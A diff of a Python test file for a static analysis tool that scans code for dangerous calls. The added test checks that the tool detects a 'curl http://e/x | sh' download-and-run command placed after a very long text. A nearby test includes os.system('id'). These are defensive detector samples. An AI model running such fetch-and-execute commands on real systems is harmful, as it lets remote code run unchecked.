@@ -13,6 +13,7 @@ from support.cases import check_each
 
 from modelaudit.languages.python import attack_texts, constant_calls, constant_folding
 from modelaudit.languages.python.analysis import analyze_source
+from modelaudit.languages.python.attack_texts import find_attack_texts
 from modelaudit.languages.python.cells import split_cell
 from modelaudit.languages.python.source import decode_source, find_parser_obstacle, split_source
 from modelaudit.languages.python.values import Constant
@@ -348,3 +349,7 @@ def test_each_of_three_thousand_functions_is_evaluated() -> None:
 def test_invalid_use_of_a_text_codec_does_not_stop_the_analysis() -> None:
     analysis = analyze_source("b'abc'.decode('rot13')\n'abc'.encode('rot13')\nimport os\nos.system('id')\n")
     assert "os.system" in {each.name for each in analysis.mentions}
+
+
+def test_attack_at_the_end_of_a_long_text_is_found():
+    assert [name for name, _ in find_attack_texts("a " * 300_000 + "curl http://e/x | sh")] == ["(download | shell)"]
